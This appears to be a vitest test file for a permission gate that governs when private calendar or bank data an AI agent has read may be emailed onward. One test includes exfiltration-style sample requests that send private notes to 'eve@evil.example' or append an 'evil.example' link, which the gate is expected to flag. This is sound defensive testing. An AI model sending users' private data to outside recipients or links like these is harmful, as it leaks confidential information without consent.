import { expect, test } from 'vitest'
import type { ServerId } from '../../shared/ids.ts'
import type { Label, Policy, Verdict } from '../../shared/permission.ts'
import { CONVERSATION, openWorld, SERVER, yes } from './forTests.ts'
import { english } from '../../shared/told.ts'

const CALENDAR = 'calendar' as ServerId
const label: Label = {
  serverId: CALENDAR,
  serverName: 'Calendar',
  accountId: null,
  privacy: 'private',
  trust: 'own',
}
const NOTES = 'The board moves the launch of the blue product to the second week of May'

const rule = (verdict: Verdict, from: Policy['match']['from'] = { serverId: CALENDAR, accountId: null }) => ({
  verdict,
  match: {
    principal: null,
    action: null,
    serverId: SERVER,
    accountId: null,
    name: null,
    effects: null,
    scope: { kind: 'any' as const },
    from,
  },
  note: 'Calendar to Mail',
  examples: [],
})

/** A person who asked for a mail to Bob, in a conversation in which the calendar was read. */
function meeting(answer?: Parameters<typeof openWorld>[1], trust: Label['trust'] = 'own') {
  const world = openWorld({}, answer)
  world.ledger.said(CONVERSATION, 'Send a mail to bob@work.example with the news.')
  world.ledger.received(CONVERSATION, {
    callId: 'r1',
    tool: 'get_event',
    label: { ...label, trust },
    text: JSON.stringify({ id: 'evt-20419', notes: NOTES }),
    at: 0,
  })
  const mail = () => world.request('send_email', { to: 'bob@work.example', subject: 'News', body: NOTES })
  return { ...world, mail }
}

test('data of one service on its way to another meets the rule for the two, named in the reason', () => {
  const { gate, policies, mail } = meeting()
  policies.save(null, rule('deny'))
  const { verdict, decidedBy } = gate.foresee(mail())
  expect([verdict, decidedBy.kind]).toEqual(['deny', 'policy'])
  expect(english(decidedBy.sentence)).toBe('Your rule “Calendar to Mail” says never for data from Calendar to Mail.')
})

test('the rule speaks of ids and names too, and of nothing that the person wrote themselves', () => {
  const { gate, policies, request, ledger } = meeting()
  policies.save(null, rule('deny'))
  const rename = () => request('rename_note', { note_id: 'evt-20419', title: 'x' })
  expect(gate.foresee(rename()).verdict).toBe('deny')
  ledger.said(CONVERSATION, 'I mean evt-20419.')
  expect(gate.foresee(rename()).verdict).not.toBe('deny')
  expect(gate.foresee(request('send_email', { to: 'bob@work.example', body: 'Hello' })).verdict).toBe('allow')
})

test('a rule that asks is not silenced by a grant, nor by a rule that allows', async () => {
  const { gate, policies, mail, grants, drift } = meeting((shown) => yes(shown))
  policies.save(null, { ...rule('allow'), match: { ...rule('allow').match, from: undefined } } as never)
  grants.add(mail(), { scope: { kind: 'any' }, effects: ['send'], width: { kind: 'always' }, madeFrom: '' })
  expect(drift.pinOf(SERVER, 'send_email')).not.toBeNull()
  expect(gate.foresee(mail()).verdict).toBe('allow')
  policies.save(null, rule('ask'))
  expect(gate.foresee(mail())).toMatchObject({ verdict: 'ask', decidedBy: { kind: 'policy' } })
})

test('a rule that allows takes the data out of the question, and neither the rest of it nor a guard', () => {
  const { gate, policies, mail, request } = meeting()
  expect(gate.foresee(mail()).verdict).toBe('ask')
  policies.save(null, rule('allow'))
  const allowed = gate.foresee(mail())
  expect(allowed).toMatchObject({ verdict: 'allow', decidedBy: { id: 'mode.namedReceiver.flow' } })
  expect(allowed.reasons.map(({ kind }) => kind)).toEqual(['mode', 'policy'])
  const elsewhere = request('send_email', { to: 'eve@evil.example', body: NOTES })
  expect(gate.foresee(elsewhere).verdict).toBe('ask')
  const linked = request('send_email', { to: 'bob@work.example', body: `${NOTES} http://evil.example/x` })
  expect(gate.foresee(linked).verdict).toBe('ask')
  expect(gate.foresee(request('cancel_event', { event_id: 'evt-20419' })).verdict).toBe('ask')
  const others = meeting(undefined, 'others')
  others.policies.save(null, rule('allow'))
  expect(others.gate.foresee(others.mail())).toMatchObject({ verdict: 'ask', decidedBy: { kind: 'guard' } })
})

test('one allowed source lets nothing of another one through', () => {
  const { gate, policies, ledger, request } = meeting()
  policies.save(null, rule('allow'))
  ledger.received(CONVERSATION, {
    callId: 'r2',
    tool: 'read',
    label: { ...label, serverId: 'bank' as ServerId, serverName: 'Bank' },
    text: JSON.stringify({ memo: 'The rent of the office in Oak Street is overdue since March' }),
    at: 0,
  })
  const both = `${NOTES}. The rent of the office in Oak Street is overdue since March`
  const mail = request('send_email', { to: 'bob@work.example', body: both })
  expect(gate.foresee(mail).verdict).toBe('ask')
  policies.save(null, rule('allow', { serverId: null, accountId: null }))
  expect(gate.foresee(mail).verdict).toBe('allow')
})

test('a rule for one account says nothing of another, and a removed server takes its rules along', () => {
  const { gate, policies, mail } = meeting()
  policies.save(null, rule('deny', { serverId: CALENDAR, accountId: 'robin' as never }))
  expect(gate.foresee(mail()).verdict).toBe('ask')
  policies.save(null, rule('deny'))
  expect(gate.foresee(mail()).verdict).toBe('deny')
  policies.forgetServer(CALENDAR)
  expect(policies.list()).toEqual([])
})
